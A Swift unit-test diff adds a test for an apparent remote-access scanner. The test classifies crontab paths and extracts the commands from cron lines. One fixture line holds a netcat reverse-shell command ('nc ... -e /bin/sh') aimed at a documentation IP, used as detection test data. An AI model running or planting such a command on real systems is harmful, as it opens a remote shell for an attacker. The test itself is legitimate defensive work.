@@ -138,6 +138,24 @@ final class AccessChecksTests: XCTestCase {
         XCTAssertEqual(try remoteFindings("vendor-key/home/alice/.ssh/authorized_keys"), [])
     }
 
+    /// Crontabs: where they lie, and the command of a line after its schedule (and user).
+    func testCrontabsAreStartupFiles() {
+        let kinds: [String: ConfigurationFile.Kind?] = [
+            "etc/crontab": .systemCrontab, "etc/cron.d/backup": .systemCrontab, "var/spool/cron/crontabs/root": .userCrontab,
+            "var/spool/cron/root": .userCrontab, "etc/crontabs/root": .userCrontab, "var/spool/cron/atjobs/x": nil, "etc/cron.daily/logrotate": nil,
+        ]
+        for (path, kind) in kinds {
+            XCTAssertEqual(ConfigurationFile.recognise(diskPath: Array(("/srv/fw/" + path).utf8))?.kind, kind, path)
+        }
+        XCTAssertEqual(RemoteAccessAnalyzer.cronCommand("@reboot root sleep 60 && /bin/x", namesUser: true), "sleep 60 && /bin/x")
+        XCTAssertEqual(RemoteAccessAnalyzer.cronCommand("*/10 * * * *\tnc 192.0.2.7 9002 -e /bin/sh", namesUser: false), "nc 192.0.2.7 9002 -e /bin/sh")
+        XCTAssertEqual(RemoteAccessAnalyzer.cronCommand("17 * * * * root cd / && run-parts --report /etc/cron.hourly", namesUser: true),
+                       "cd / && run-parts --report /etc/cron.hourly")
+        XCTAssertNil(RemoteAccessAnalyzer.cronCommand("SHELL=/bin/sh", namesUser: true))
+        XCTAssertNil(RemoteAccessAnalyzer.cronCommand("# m h dom mon dow user command", namesUser: true))
+        XCTAssertNil(RemoteAccessAnalyzer.cronCommand("@daily root", namesUser: true))
+    }
+
     func testCommandLines() {
         func launches(_ line: String, _ variables: [String: String] = [:]) -> [StartupCommand.Launch] {
             StartupCommand.launches(StartupCommand.pipelines(line, variables: variables))
